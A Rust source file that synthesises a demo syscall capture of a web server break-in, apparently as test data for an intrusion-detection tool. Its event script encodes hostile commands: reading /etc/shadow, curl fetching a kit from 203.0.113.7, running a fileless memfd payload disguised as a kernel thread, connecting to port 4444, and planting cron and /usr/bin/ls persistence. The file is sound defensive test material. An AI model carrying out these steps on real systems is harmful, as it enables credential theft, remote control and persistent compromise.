//! The capture that ships with the project: a break-in at a web server. It is synthesised with the
//! project's own writer, so that it contains no recording of a real machine.

use std::fs::File;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::path::Path;

use anyhow::{Context, Result};
use peregrine_event::snapshot::{Fd, FdKind, Group, Item, Machine, Thread, User};
use peregrine_event::{Builder, Event, EventType, Sockaddr, Socktuple};
use peregrine_scap::{Compression, Writer};

const O_RDONLY: u32 = 1 << 0;
const O_WRONLY: u32 = 1 << 1;
const O_CREAT: u32 = 1 << 2;
const EXE_FROM_MEMFD: u32 = 1 << 2;
const AF_INET: u32 = 2;
const SOCK_STREAM: u32 = 1;

const NGINX: i64 = 710;
const SHELL: i64 = 2201;
const ROOT: u32 = 0;
const WWW: u32 = 33;

/// Writes the capture.
pub fn run() -> Result<()> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../conformance/captures/demo.scap");
    let file = File::create(&path).with_context(|| path.display().to_string())?;
    let mut writer = Writer::new(file, Compression::Gzip, &machine())?;
    let mut scene =
        Scene { now: START, builder: Builder::new(EventType::DropE, 0, 0), events: Vec::new() };
    scene.play()?;
    for event in &scene.events {
        writer.event(&Event::parse(event, 0)?, false)?;
    }
    writer.finish()?;
    Ok(())
}

/// 2026-01-15 03:12:07 UTC, nanoseconds.
const START: u64 = 1_768_446_727_000_000_000;

fn machine() -> Vec<Item> {
    let user = |uid, name: &str, home: &str, shell: &str| {
        let [name, home, shell] = [name, home, shell].map(|s| s.as_bytes().to_vec());
        Item::User(User { uid, gid: uid, name, home, shell })
    };
    let mut items = vec![
        Item::Machine(Machine {
            num_cpus: 2,
            memory: 4 << 30,
            max_pid: 32_768,
            hostname: b"web-1".to_vec(),
            boot_ts: START - 86_400_000_000_000,
            flags: 0,
        }),
        user(ROOT, "root", "/root", "/bin/bash"),
        user(WWW, "www-data", "/var/www", "/usr/sbin/nologin"),
        Item::Group(Group { gid: ROOT, name: b"root".to_vec() }),
        Item::Group(Group { gid: WWW, name: b"www-data".to_vec() }),
    ];
    for (tid, ptid, comm, exepath, uid) in [
        (1, 0, "systemd", "/usr/lib/systemd/systemd", ROOT),
        (700, 1, "nginx", "/usr/sbin/nginx", ROOT),
        (NGINX, 700, "nginx", "/usr/sbin/nginx", WWW),
    ] {
        items.push(Item::Thread(Box::new(Thread {
            tid,
            pid: tid,
            ptid,
            sid: tid,
            vpgid: tid,
            pgid: tid,
            vtid: tid,
            vpid: tid,
            comm: comm.as_bytes().into(),
            exe: exepath.as_bytes().into(),
            exepath: exepath.as_bytes().into(),
            cwd: b"/"[..].into(),
            root: b"/"[..].into(),
            fdlimit: 1024,
            uid,
            gid: uid,
            loginuid: u32::MAX,
            ..Thread::default()
        })));
        let name = b"/dev/null".to_vec();
        let null = FdKind::File { flags: 3, name, mount_id: 0, dev: 5 };
        items.push(Item::Fds(tid, vec![Fd { fd: 0, ino: 4, kind: null }]));
    }
    items
}

/// The story, event by event.
struct Scene {
    now: u64,
    builder: Builder,
    events: Vec<Vec<u8>>,
}

impl Scene {
    fn play(&mut self) -> Result<()> {
        // A request makes the server spawn a shell, which explores the system.
        self.fork(NGINX, SHELL, "nginx", "/usr/sbin/nginx", WWW)?;
        self.exec(SHELL, NGINX, "/usr/bin/dash", &["sh", "-c", "id; cat /etc/shadow"], WWW, 0)?;
        self.child(2202, "/usr/bin/id", &["id"], WWW, |_| Ok(()))?;
        self.child(2203, "/usr/bin/cat", &["cat", "/etc/shadow"], ROOT, |s| {
            s.open(2203, 3, "/etc/shadow", O_RDONLY)?;
            s.close(2203, 3)
        })?;
        // It fetches a tool that never touches the disk, and connects to a remote host.
        self.child(2204, "/usr/bin/curl", &["curl", "-s", "http://203.0.113.7/kit"], ROOT, |s| {
            s.connect(2204, 3, SocketAddrV4::new(Ipv4Addr::new(203, 0, 113, 7), 80))?;
            s.close(2204, 3)
        })?;
        self.fork(SHELL, 2205, "sh", "/usr/bin/dash", ROOT)?;
        self.event(EventType::SyscallMemfdCreateX, 2205, |b| b.i64(3).text("kit").u32(0))?;
        self.exec(2205, SHELL, "memfd:kit", &["[kworker/0:1]"], ROOT, EXE_FROM_MEMFD)?;
        self.connect(2205, 4, SocketAddrV4::new(Ipv4Addr::new(203, 0, 113, 7), 4444))?;
        // It establishes persistence.
        self.open(2205, 5, "/etc/cron.d/refresh", O_WRONLY | O_CREAT)?;
        self.close(2205, 5)?;
        self.open(2205, 5, "/usr/bin/ls", O_WRONLY)?;
        self.close(2205, 5)?;
        self.exit(2205)?;
        self.exit(SHELL)
    }

    fn child(
        &mut self,
        pid: i64,
        exe: &str,
        argv: &[&str],
        uid: u32,
        acts: impl FnOnce(&mut Self) -> Result<()>,
    ) -> Result<()> {
        self.fork(SHELL, pid, "sh", "/usr/bin/dash", uid)?;
        self.exec(pid, SHELL, exe, argv, uid, 0)?;
        acts(self)?;
        self.exit(pid)
    }

    fn fork(&mut self, parent: i64, child: i64, comm: &str, exe: &str, uid: u32) -> Result<()> {
        for (tid, res) in [(parent, child), (child, 0)] {
            let ptid = if tid == child { parent } else { 0 };
            self.event(EventType::SyscallClone_20X, tid, |b| {
                b.i64(res).text(exe).empty().i64(tid).i64(tid).i64(ptid).text("").i64(1024);
                b.u64(0).u64(120).u32(8_000).u32(2_000).u32(0).text(comm).texts(CGROUPS);
                b.u32(0).u32(uid).u32(uid).i64(tid).i64(tid).u64(0)
            })?;
        }
        Ok(())
    }

    fn exec(
        &mut self,
        pid: i64,
        ptid: i64,
        exe: &str,
        argv: &[&str],
        uid: u32,
        flags: u32,
    ) -> Result<()> {
        let (name, args) = argv.split_first().context("a program has a name")?;
        // The kernel keeps 15 bytes of a name.
        let comm = name.get(..15).unwrap_or(name);
        self.event(EventType::SyscallExecve_19X, pid, |b| {
            b.i64(0).text(name).texts(args).i64(pid).i64(pid).i64(ptid).text("").u64(1024);
            b.u64(0).u64(90).u32(3_000).u32(900).u32(0).text(comm).texts(CGROUPS);
            b.texts(["PATH=/usr/bin:/bin", "LANG=C"]).u32(0).i64(pid).u32(u32::MAX).u32(flags);
            b.u64(0).u64(0).u64(0).u64(1_000 + pid as u64).u64(START - 9_000).u64(START - 9_000);
            b.u32(uid).text(exe).i64(pid).u32(uid).text(exe)
        })
    }

    fn exit(&mut self, pid: i64) -> Result<()> {
        self.event(EventType::Procexit_1E, pid, |b| b.i64(0).i64(0).u8(0).u8(0).i64(1))
    }

    fn open(&mut self, tid: i64, fd: i64, path: &str, flags: u32) -> Result<()> {
        self.event(EventType::SyscallOpenat_2X, tid, |b| {
            b.i64(fd).i64(-100).text(path).u32(flags).u32(0o644).u32(0xFE00).u64(77_000)
        })
    }

    fn close(&mut self, tid: i64, fd: i64) -> Result<()> {
        self.event(EventType::SyscallCloseX, tid, |b| b.i64(0).i64(fd))
    }

    fn connect(&mut self, tid: i64, fd: i64, to: SocketAddrV4) -> Result<()> {
        let source = SocketAddrV4::new(Ipv4Addr::new(192, 0, 2, 10), 40_000 + tid as u16);
        self.event(EventType::SocketSocketX, tid, |b| {
            b.i64(fd).u32(AF_INET).u32(SOCK_STREAM).u32(6).u32(0)
        })?;
        self.event(EventType::SocketConnectX, tid, |b| {
            b.i64(0).socktuple(&Socktuple::V4 { source, destination: to });
            b.i64(fd).sockaddr(&Sockaddr::V4(to))
        })
    }

    fn event(
        &mut self,
        ty: EventType,
        tid: i64,
        params: impl FnOnce(&mut Builder) -> &mut Builder,
    ) -> Result<()> {
        self.now += 1_300_000;
        let mut bytes = Vec::new();
        params(self.builder.reset(ty, self.now, tid)).finish(&mut bytes)?;
        self.events.push(bytes);
        Ok(())
    }
}

const CGROUPS: [&str; 1] = ["cpu=/system.slice/nginx.service"];
